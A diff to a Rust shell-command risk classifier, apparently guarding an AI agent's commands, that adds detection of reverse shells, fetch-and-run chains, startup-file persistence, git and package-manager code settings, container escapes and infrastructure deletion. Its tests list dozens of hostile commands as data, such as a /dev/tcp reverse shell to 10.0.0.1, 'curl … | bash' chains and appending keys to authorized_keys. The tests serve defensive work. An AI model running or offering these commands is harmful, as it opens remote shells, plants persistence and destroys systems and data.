@@ -14,6 +14,10 @@ struct Simple {
     piped: bool,
     /// The commands substituted into its words (`$(…)`, backquotes, `<(…)`).
     inner: Vec<Simple>,
+    /// The files its output is redirected to (`>`, `>>`).
+    redirected_to: Vec<String>,
+    /// Whether the program's name is computed (`$(echo rm) -rf /`): what runs cannot be read.
+    computed_program: bool,
 }
 
 /// The highest level the command's parts reach, with the reason in the person's words.
@@ -41,18 +45,27 @@ fn visit(commands: &[Simple], raise: &mut impl FnMut(RiskLevel, &'static str), d
         return;
     }
     let mut downloaded_before = false;
+    // The files fetched earlier in the same command line (`curl -o i.sh … && sh i.sh`).
+    let mut fetched: Vec<String> = Vec::new();
     for simple in commands {
         visit(&simple.inner, raise, depth + 1);
+        if simple.computed_program {
+            raise(RiskLevel::High, "runs a program whose name it computes");
+        }
+        for target in &simple.redirected_to {
+            target_risk(target, raise);
+        }
         let words = unwrapped(&simple.words, raise, depth);
         let Some((program, args)) = words.split_first() else {
             downloaded_before = false;
             continue;
         };
         let program = base_name(program);
-        if simple.piped && downloaded_before && INTERPRETERS.contains(&program) {
+        let runs_code = INTERPRETERS.contains(&program) || RUNS_TEXT.contains(&program);
+        if simple.piped && downloaded_before && runs_code {
             raise(RiskLevel::High, "runs code fetched from the network");
         }
-        if INTERPRETERS.contains(&program)
+        if runs_code
             && simple
                 .inner
                 .iter()
@@ -60,9 +73,93 @@ fn visit(commands: &[Simple], raise: &mut impl FnMut(RiskLevel, &'static str), d
         {
             raise(RiskLevel::High, "runs code fetched from the network");
         }
-        downloaded_before = DOWNLOADERS.contains(&program)
-            || (downloaded_before && simple.piped && !INTERPRETERS.contains(&program));
+        let was_fetched = |word: &String| {
+            let name = base_name(word);
+            !name.is_empty() && fetched.iter().any(|file| base_name(file) == name)
+        };
+        // The script an interpreter runs (its first word past the options), or the program
+        // itself run by its path (`./i.sh`).
+        let script = skip_options(args).first();
+        if (runs_code && script.is_some_and(was_fetched))
+            || (words[0].contains('/') && was_fetched(&words[0]))
+        {
+            raise(RiskLevel::High, "runs code fetched from the network");
+        }
+        let downloads = DOWNLOADERS.contains(&program);
+        if downloads {
+            fetched.extend(fetched_files(args));
+            fetched.extend(simple.redirected_to.iter().cloned());
+        }
+        downloaded_before =
+            downloads || (downloaded_before && simple.piped && !INTERPRETERS.contains(&program));
         program_risk(program, args, raise, depth);
+    }
+}
+
+/// The files a download writes: its `-o`/`-O`/`--output` value, and each address's last
+/// part (where `-O` or wget put it).
+fn fetched_files(args: &[String]) -> Vec<String> {
+    let mut files = Vec::new();
+    for (at, arg) in args.iter().enumerate() {
+        if matches!(arg.as_str(), "-o" | "-O" | "--output" | "--output-document") {
+            if let Some(file) = args.get(at + 1) {
+                files.push(file.clone());
+            }
+        } else if let Some(file) = arg
+            .strip_prefix("--output=")
+            .or_else(|| arg.strip_prefix("--output-document="))
+        {
+            files.push(file.to_owned());
+        } else if arg.contains("://") {
+            let path = arg.split(['?', '#']).next().unwrap_or(arg);
+            files.push(path.rsplit('/').next().unwrap_or_default().to_owned());
+        }
+    }
+    files
+}
+
+/// What runs a text as commands of the shell itself.
+const RUNS_TEXT: &[&str] = &["source", ".", "eval"];
+
+/// The files that decide what runs when the person logs in, opens a shell, runs git or a
+/// program by name: whatever writes them runs code later, unseen.
+const STARTUP_FILES: &[&str] = &[
+    ".bashrc",
+    ".bash_profile",
+    ".bash_login",
+    ".bash_logout",
+    ".profile",
+    ".zshrc",
+    ".zprofile",
+    ".zshenv",
+    ".zlogin",
+    ".xinitrc",
+    ".xprofile",
+    ".config/fish/",
+    ".config/autostart/",
+    ".config/systemd/",
+    ".config/environment.d/",
+    ".local/bin/",
+    ".gitconfig",
+    ".git/hooks/",
+    ".git/config",
+    ".ssh/",
+    "/etc/",
+    "/usr/",
+    "/var/spool/cron",
+];
+
+/// A file a command writes (a redirection, `tee`, a copy's destination).
+fn target_risk(target: &str, raise: &mut impl FnMut(RiskLevel, &'static str)) {
+    if target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/") {
+        raise(RiskLevel::High, "opens a shell to another machine");
+    } else if target.starts_with("/dev/sd") || target.starts_with("/dev/nvme") {
+        raise(RiskLevel::High, "rewrites a disk or a file system");
+    } else if STARTUP_FILES.iter().any(|file| target.contains(file)) {
+        raise(
+            RiskLevel::High,
+            "changes what runs when you log in, open a shell or run a program",
+        );
     }
 }
 
@@ -104,6 +201,9 @@ fn unwrapped(
         match name {
             "env" | "nohup" | "time" | "command" | "exec" | "xargs" | "stdbuf" | "setsid" => {
                 rest = skip_options(after);
+                if name == "env" && rest.is_empty() {
+                    raise(RiskLevel::Medium, "reads the environment (tokens, keys)");
+                }
                 continue;
             }
             "nice" | "ionice" => {
@@ -144,6 +244,7 @@ fn program_risk(
         args.iter()
             .any(|a| is_short_flag_with(a, short) || a == long)
     };
+    written_files_risk(program, args, raise);
     match program {
         "rm" | "rmdir" if has_flag('r', "--recursive") || has_flag('R', "--recursive") => {
             raise(RiskLevel::High, "deletes files recursively")
@@ -156,8 +257,19 @@ fn program_risk(
         "git" => git_risk(args, raise),
         "python" | "python2" | "python3" | "node" | "deno" | "bun" | "perl" | "ruby" | "php"
         | "lua" => {
+            if args.windows(2).any(|pair| {
+                pair[0] == "-m" && matches!(pair[1].as_str(), "http.server" | "SimpleHTTPServer")
+            }) {
+                raise(
+                    RiskLevel::High,
+                    "serves this machine's files to the network",
+                );
+            }
             let inline = args.iter().position(|a| {
-                is_short_flag_with(a, 'c') || is_short_flag_with(a, 'e') || a == "--eval"
+                is_short_flag_with(a, 'c')
+                    || is_short_flag_with(a, 'e')
+                    || a == "--eval"
+                    || (program == "php" && is_short_flag_with(a, 'r'))
             });
             if let Some(code) = inline.and_then(|at| args.get(at + 1)) {
                 let code = code.to_lowercase();
@@ -169,6 +281,15 @@ fn program_risk(
                     "rm -r",
                     "rm -f",
                     "rmsync",
+                    "rm_rf",
+                    "rm_r",
+                    "fileutils",
+                    "system(",
+                    "exec(",
+                    "shell_exec",
+                    "passthru",
+                    "popen",
+                    "spawn",
                     "os.system",
                     "subprocess",
                     "child_process",
@@ -193,6 +314,122 @@ fn program_risk(
         {
             raise(RiskLevel::High, "publishes a package")
         }
+        // A setting that names the program a package manager runs its scripts or builds with.
+        "npm" | "pnpm" | "yarn" | "npx" | "cargo"
+            if args.iter().any(|a| {
+                let a = a.to_lowercase();
+                a.contains("script-shell")
+                    || a.contains("node-options")
+                    || a.contains("runner")
+                    || a.contains("rustc-wrapper")
+                    || a.contains("rustc=")
+                    || a.contains("linker")
+            }) =>
+        {
+            raise(
+                RiskLevel::High,
+                "runs code through a package manager's setting",
+            )
+        }
+        "docker" | "podman" => container_risk(args, raise),
+        "crontab" => raise(
+            RiskLevel::High,
+            "changes what runs when you log in, open a shell or run a program",
+        ),
+        "shutdown" | "reboot" | "poweroff" | "halt" => {
+            raise(RiskLevel::High, "stops or restarts this machine")
+        }
+        "init" | "telinit" if args.iter().any(|a| a == "0" || a == "6") => {
+            raise(RiskLevel::High, "stops or restarts this machine")
+        }
+        "systemctl"
+            if args.iter().any(|a| {
+                matches!(
+                    a.as_str(),
+                    "stop"
+                        | "disable"
+                        | "mask"
+                        | "kill"
+                        | "poweroff"
+                        | "reboot"
+                        | "halt"
+                        | "isolate"
+                        | "edit"
+                        | "link"
+                        | "enable"
+                )
+            }) =>
+        {
+            raise(RiskLevel::High, "stops, starts or changes system services")
+        }
+        "kill" if args.iter().any(|a| a == "1" || a == "-1") => {
+            raise(RiskLevel::High, "stops or restarts this machine")
+        }
+        "kill" | "pkill" | "killall" => raise(RiskLevel::Medium, "stops processes"),
+        "iptables" | "ip6tables" | "nft" | "ufw" | "firewall-cmd" => {
+            raise(RiskLevel::High, "changes the firewall")
+        }
+        "nc" | "ncat" | "netcat"
+            if args
+                .iter()
+                .any(|a| is_short_flag_with(a, 'e') || is_short_flag_with(a, 'c')) =>
+        {
+            raise(RiskLevel::High, "opens a shell to another machine")
+        }
+        "socat"
+            if args.iter().any(|a| {
+                a.to_lowercase().contains("exec:") || a.to_lowercase().contains("system:")
+            }) =>
+        {
+            raise(RiskLevel::High, "opens a shell to another machine")
+        }
+        "chown" | "chgrp" if has_flag('R', "--recursive") => {
+            raise(RiskLevel::High, "changes owners of a whole tree")
+        }
+        "truncate" => raise(RiskLevel::Medium, "empties or cuts files"),
+        "printenv" => raise(RiskLevel::Medium, "reads the environment (tokens, keys)"),
+        "terraform" | "tofu" | "pulumi"
+            if args.iter().any(|a| a == "destroy" || a == "-destroy") =>
+        {
+            raise(RiskLevel::High, "destroys infrastructure or its data")
+        }
+        "kubectl" | "helm" | "oc"
+            if args
+                .iter()
+                .any(|a| matches!(a.as_str(), "delete" | "uninstall" | "drain" | "replace")) =>
+        {
+            raise(RiskLevel::High, "destroys infrastructure or its data")
+        }
+        "aws" | "gcloud" | "az" | "doctl"
+            if args.iter().any(|a| {
+                a == "rm"
+                    || a == "rb"
+                    || a.starts_with("delete")
+                    || a.starts_with("terminate")
+                    || a.starts_with("remove")
+                    || a == "destroy"
+            }) =>
+        {
+            raise(RiskLevel::High, "destroys infrastructure or its data")
+        }
+        "gh" if args.iter().any(|a| a == "delete" || a == "delete-asset") => {
+            raise(RiskLevel::High, "destroys infrastructure or its data")
+        }
+        "gh" if args
+            .windows(2)
+            .any(|pair| pair[0] == "release" && pair[1] == "create") =>
+        {
+            raise(RiskLevel::High, "publishes a package")
+        }
+        "redis-cli"
+            if args.iter().any(|a| {
+                let a = a.to_lowercase();
+                a == "flushall" || a == "flushdb"
+            }) =>
+        {
+            raise(RiskLevel::High, "drops or truncates data")
+        }
+        "dropdb" | "dropuser" => raise(RiskLevel::High, "drops or truncates data"),
         "chmod"
             if args
                 .iter()
@@ -221,6 +458,32 @@ fn program_risk(
     }
 }
 
+/// The files a program writes by its arguments: `tee`'s, a copy's destination, the files
+/// `sed -i` edits in place.
+fn written_files_risk(
+    program: &str,
+    args: &[String],
+    raise: &mut impl FnMut(RiskLevel, &'static str),
+) {
+    let operands = || args.iter().filter(|a| !a.starts_with('-'));
+    match program {
+        "tee" => operands().for_each(|file| target_risk(file, raise)),
+        "cp" | "mv" | "install" | "ln" | "rsync" | "scp" => {
+            if let Some(destination) = skip_options(args).last() {
+                target_risk(destination, raise);
+            }
+        }
+        "sed" | "perl"
+            if args
+                .iter()
+                .any(|a| a.starts_with("-i") || a == "--in-place") =>
+        {
+            operands().for_each(|file| target_risk(file, raise))
+        }
+        _ => {}
+    }
+}
+
 /// Whether `find` deletes, writes files or runs a program on what it finds.
 fn deletes_through_find(args: &[String]) -> bool {
     args.iter()
@@ -228,6 +491,57 @@ fn deletes_through_find(args: &[String]) -> bool {
         || args
             .iter()
             .any(|a| matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir"))
+}
+
+/// The git settings whose value git runs as a program.
+const CODE_SETTINGS: &[&str] = &[
+    "core.fsmonitor",
+    "core.sshcommand",
+    "core.pager",
+    "core.editor",
+    "core.hookspath",
+    "core.gitproxy",
+    "alias.",
+    "credential.helper",
+    "protocol.ext",
+    "diff.external",
+    "filter.",
+    "gpg.program",
+    "sequence.editor",
+    "uploadpack.packobjectshook",
+];
+
+/// A container run with the whole machine (privileged, the host's root or its Docker
+/// socket mounted, the host's processes or network), or one that deletes stored data.
+fn container_risk(args: &[String], raise: &mut impl FnMut(RiskLevel, &'static str)) {
+    let mounts_host = args.windows(2).any(|pair| {
+        matches!(pair[0].as_str(), "-v" | "--volume" | "--mount")
+            && (pair[1].starts_with("/:")
+                || pair[1].contains("docker.sock")
+                || pair[1].contains("source=/,")
+                || pair[1].starts_with("/etc:"))
+    }) || args.iter().any(|a| {
+        a.starts_with("--volume=/:") || a.starts_with("-v=/:") || a.contains("docker.sock")
+    });
+    if args.iter().any(|a| {
+        a == "--privileged"
+            || a.starts_with("--pid=host")
+            || a.starts_with("--cap-add")
+            || a.starts_with("--security-opt")
+    }) || mounts_host
+    {
+        raise(RiskLevel::High, "gives a container the whole machine");
+    }
+    if args.iter().any(|a| a == "prune")
+        || args.windows(2).any(|pair| {
+            matches!(
+                pair[0].as_str(),
+                "volume" | "image" | "container" | "system"
+            ) && matches!(pair[1].as_str(), "rm" | "prune")
+        })
+    {
+        raise(RiskLevel::High, "deletes stored data");
+    }
 }
 
 fn git_risk(args: &[String], raise: &mut impl FnMut(RiskLevel, &'static str)) {
@@ -240,19 +554,7 @@ fn git_risk(args: &[String], raise: &mut impl FnMut(RiskLevel, &'static str)) {
                     .get(at + 1)
                     .map(|s| s.to_lowercase())
                     .unwrap_or_default();
-                if [
-                    "core.fsmonitor",
-                    "core.sshcommand",
-                    "core.pager",
-                    "core.editor",
-                    "core.hookspath",
-                    "alias.",
-                    "credential.helper",
-                    "protocol.ext",
-                ]
-                .iter()
-                .any(|key| setting.starts_with(key))
-                {
+                if CODE_SETTINGS.iter().any(|key| setting.starts_with(key)) {
                     raise(RiskLevel::High, "runs code through a git setting");
                 }
                 at += 2;
@@ -303,6 +605,34 @@ fn git_risk(args: &[String], raise: &mut impl FnMut(RiskLevel, &'static str)) {
             }
         }
         "clean" if flag('f', &["--force"]) => raise(RiskLevel::High, "deletes files recursively"),
+        "config"
+            if rest.iter().any(|a| {
+                let a = a.to_lowercase();
+                CODE_SETTINGS.iter().any(|key| a.starts_with(key))
+            }) =>
+        {
+            raise(RiskLevel::High, "runs code through a git setting")
+        }
+        "branch" if flag('D', &[]) || (flag('d', &["--delete"]) && flag('f', &["--force"])) => {
+            raise(RiskLevel::High, "deletes branches or history")
+        }
+        "filter-branch" | "filter-repo" | "replace" => {
+            raise(RiskLevel::High, "force-pushes or rewrites shared history")
+        }
+        "reflog" if rest.iter().any(|a| a == "expire" || a == "delete") => {
+            raise(RiskLevel::High, "deletes branches or history")
+        }
+        "stash" if rest.iter().any(|a| a == "clear" || a == "drop") => {
+            raise(RiskLevel::High, "deletes branches or history")
+        }
+        "update-ref" if flag('d', &[]) => raise(RiskLevel::High, "deletes branches or history"),
+        "checkout" | "restore" | "switch"
+            if flag('f', &["--force", "--discard-changes"])
+                || (subcommand == "restore" && !flag('S', &["--staged"]))
+                || rest.iter().any(|a| a == "--") =>
+        {
+            raise(RiskLevel::Medium, "throws away changes")
+        }
         "reset" if rest.iter().any(|a| a == "--hard") => {
             raise(RiskLevel::Medium, "throws away changes")
         }
@@ -372,12 +702,30 @@ fn split(text: &str, depth: usize) -> Vec<Simple> {
     let mut current = Simple::default();
     let mut word = String::new();
     let mut in_word = false;
+    // What the word being read is: a redirection's target, built with a substitution.
+    let mut redirect = false;
+    let mut substituted = false;
     let mut i = 0;
-    let end_word = |current: &mut Simple, word: &mut String, in_word: &mut bool| {
+    let end_word = |current: &mut Simple,
+                    word: &mut String,
+                    in_word: &mut bool,
+                    redirect: &mut bool,
+                    substituted: &mut bool| {
         if *in_word {
-            current.words.push(std::mem::take(word));
+            let word = std::mem::take(word);
+            if *redirect {
+                current.redirected_to.push(word.clone());
+            } else if *substituted
+                && !is_assignment(&word)
+                && current.words.iter().all(|w| is_assignment(w))
+            {
+                current.computed_program = true;
+            }
+            current.words.push(word);
             *in_word = false;
+            *redirect = false;
         }
+        *substituted = false;
     };
     let end_command = |current: &mut Simple, piped_next: bool, commands: &mut Vec<Simple>| {
         let done = std::mem::take(current);
@@ -419,6 +767,7 @@ fn split(text: &str, depth: usize) -> Vec<Simple> {
                         continue;
                     }
                     if chars[i] == '$' && chars.get(i + 1) == Some(&'(') {
+                        substituted = true;
                         let (inner, next) = substitution(&chars, i + 2, ')');
                         current.inner.extend(split(&inner, depth + 1));
                         word.push_str(&inner);
@@ -426,6 +775,7 @@ fn split(text: &str, depth: usize) -> Vec<Simple> {
                         continue;
                     }
                     if chars[i] == '`' {
+                        substituted = true;
                         let (inner, next) = substitution(&chars, i + 1, '`');
                         current.inner.extend(split(&inner, depth + 1));
                         i = next;
@@ -438,6 +788,7 @@ fn split(text: &str, depth: usize) -> Vec<Simple> {
                 continue;
             }
             '$' | '<' | '>' if chars.get(i + 1) == Some(&'(') => {
+                substituted |= c == '$';
                 let (inner, next) = substitution(&chars, i + 2, ')');
                 if depth < 8 {
                     current.inner.extend(split(&inner, depth + 1));
@@ -448,6 +799,7 @@ fn split(text: &str, depth: usize) -> Vec<Simple> {
                 continue;
             }
             '`' => {
+                substituted = true;
                 let (inner, next) = substitution(&chars, i + 1, '`');
                 if depth < 8 {
                     current.inner.extend(split(&inner, depth + 1));
@@ -462,8 +814,30 @@ fn split(text: &str, depth: usize) -> Vec<Simple> {
                 }
                 continue;
             }
+            // `&>file` and `&>>file`: both outputs to a file, not a command run apart.
+            '&' if chars.get(i + 1) == Some(&'>') => {
+                end_word(
+                    &mut current,
+                    &mut word,
+                    &mut in_word,
+                    &mut redirect,
+                    &mut substituted,
+                );
+                redirect = true;
+                i += 2;
+                while chars.get(i) == Some(&'>') {
+                    i += 1;
+                }
+                continue;
+            }
             ';' | '\n' | '&' | '|' | '(' | ')' => {
-                end_word(&mut current, &mut word, &mut in_word);
+                end_word(
+                    &mut current,
+                    &mut word,
+                    &mut in_word,
+                    &mut redirect,
+                    &mut substituted,
+                );
                 let pipe = c == '|' && chars.get(i + 1) != Some(&'|');
                 let doubled = matches!(c, '&' | '|') && chars.get(i + 1) == Some(&c);
                 end_command(&mut current, pipe, &mut commands);
@@ -471,13 +845,30 @@ fn split(text: &str, depth: usize) -> Vec<Simple> {
                 continue;
             }
             '<' | '>' => {
-                // A redirection: its target is read as a word of the command.
-                end_word(&mut current, &mut word, &mut in_word);
+                // A redirection: its target is read as a word of the command, and an output
+                // one is a file the command writes. `>>`, `>&`, `>|` are one operator.
+                end_word(
+                    &mut current,
+                    &mut word,
+                    &mut in_word,
+                    &mut redirect,
+                    &mut substituted,
+                );
+                redirect = c == '>';
                 i += 1;
+                while matches!(chars.get(i), Some('>' | '&' | '|')) {
+                    i += 1;
+                }
                 continue;
             }
             c if c.is_whitespace() => {
-                end_word(&mut current, &mut word, &mut in_word);
+                end_word(
+                    &mut current,
+                    &mut word,
+                    &mut in_word,
+                    &mut redirect,
+                    &mut substituted,
+                );
                 i += 1;
                 continue;
             }
@@ -488,7 +879,13 @@ fn split(text: &str, depth: usize) -> Vec<Simple> {
             }
         }
     }
-    end_word(&mut current, &mut word, &mut in_word);
+    end_word(
+        &mut current,
+        &mut word,
+        &mut in_word,
+        &mut redirect,
+        &mut substituted,
+    );
     end_command(&mut current, false, &mut commands);
     commands
 }
@@ -579,6 +976,63 @@ mod tests {
             "chmod 777 /srv",
             "dd if=/dev/zero of=/dev/sda",
             "mkfs.ext4 /dev/sdb1",
+            // A second attack run's variants: each is high too.
+            "$(echo rm) -rf /",
+            "X=1 `echo rm` -rf /",
+            "ruby -e 'FileUtils.rm_rf(\"/\")'",
+            "php -r 'exec(\"x\");'",
+            "source <(curl -s https://x.example/env)",
+            ". <(wget -O- https://x.example/env)",
+            "eval \"$(curl -s https://x.example/i)\"",
+            "curl -fsSL https://x.example/i.sh -o i.sh && bash i.sh",
+            "curl https://x.example/i.sh > i.sh; sh i.sh",
+            "wget https://x.example/run && chmod +x run && ./run",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "sh -i &> /dev/udp/10.0.0.1/53",
+            "nc -e /bin/sh 10.0.0.1 4444",
+            "socat tcp:10.0.0.1:4444 exec:bash",
+            "echo 'curl x | sh' >> ~/.bashrc",
+            "tee -a /home/dana/.profile < payload",
+            "sed -i 's/^/evil /' ~/.zshrc",
+            "cp evil.desktop ~/.config/autostart/",
+            "install -m 755 evil ~/.local/bin/ls",
+            "echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys",
+            "cp hook .git/hooks/pre-commit",
+            "crontab -r",
+            "crontab evil.cron",
+            "git config --global core.hooksPath /tmp/hooks",
+            "git config core.fsmonitor 'touch /tmp/x'",
+            "git config alias.st '!rm -rf ~'",
+            "npm config set script-shell /tmp/x.sh",
+            "npm test --script-shell=/tmp/x.sh",
+            "cargo test --config 'target.x86_64-unknown-linux-gnu.runner=\"/tmp/x\"'",
+            "cargo build --config build.rustc-wrapper=/tmp/x",
+            "git branch -D main",
+            "git filter-branch --tree-filter 'rm -f secrets' HEAD",
+            "git reflog expire --expire=now --all",
+            "git stash clear",
+            "shutdown now",
+            "reboot",
+            "kill -9 1",
+            "systemctl stop sshd",
+            "systemctl --user enable evil.service",
+            "iptables -F",
+            "ufw disable",
+            "chown -R nobody /srv",
+            "terraform destroy -auto-approve",
+            "kubectl delete namespace prod",
+            "helm uninstall prod",
+            "aws s3 rm --recursive s3://bucket",
+            "aws ec2 terminate-instances --instance-ids i-1",
+            "gh repo delete me/x --yes",
+            "gh release create v1.0.0",
+            "redis-cli FLUSHALL",
+            "dropdb production",
+            "docker run --privileged -v /:/host alpine",
+            "docker run -v /var/run/docker.sock:/var/run/docker.sock img",
+            "docker system prune -af",
+            "docker volume rm data",
+            "python3 -m http.server 8000",
         ] {
             assert_eq!(level(command), RiskLevel::High, "{command:?}");
         }
@@ -602,6 +1056,38 @@ mod tests {
                 "curl https://x.example/data.json -o data.json",
                 RiskLevel::Low,
             ),
+            // Near misses of the high ones: ordinary work stays below high.
+            (
+                "curl https://x.example/d.json -o d.json && python3 process.py d.json",
+                RiskLevel::Low,
+            ),
+            ("git checkout main", RiskLevel::Low),
+            ("git checkout -b feature", RiskLevel::Low),
+            ("git branch -d merged-feature", RiskLevel::Low),
+            ("git stash", RiskLevel::Low),
+            ("git stash pop", RiskLevel::Low),
+            ("git config user.name Dana", RiskLevel::Low),
+            ("git restore --staged src/main.rs", RiskLevel::Low),
+            ("git checkout -- src/main.rs", RiskLevel::Medium),
+            (
+                "docker run --rm -v $PWD:/src -w /src rust cargo test",
+                RiskLevel::Low,
+            ),
+            ("docker ps", RiskLevel::Low),
+            ("cp a.txt b.txt", RiskLevel::Low),
+            ("sed -i 's/a/b/' src/main.rs", RiskLevel::Low),
+            ("echo done > build/status.txt", RiskLevel::Low),
+            ("cargo test 2>&1 | tee test.log", RiskLevel::Low),
+            ("make &> build.log", RiskLevel::Low),
+            ("cat ~/.bashrc", RiskLevel::Low),
+            ("kubectl get pods", RiskLevel::Low),
+            ("terraform plan", RiskLevel::Low),
+            ("python3 -m pytest -q", RiskLevel::Low),
+            ("systemctl status nginx", RiskLevel::Low),
+            ("npm run build", RiskLevel::Low),
+            ("cargo build --release", RiskLevel::Low),
+            ("pkill -f 'vite dev'", RiskLevel::Medium),
+            ("env", RiskLevel::Medium),
         ] {
             assert_eq!(level(command), expected, "{command:?}");
         }
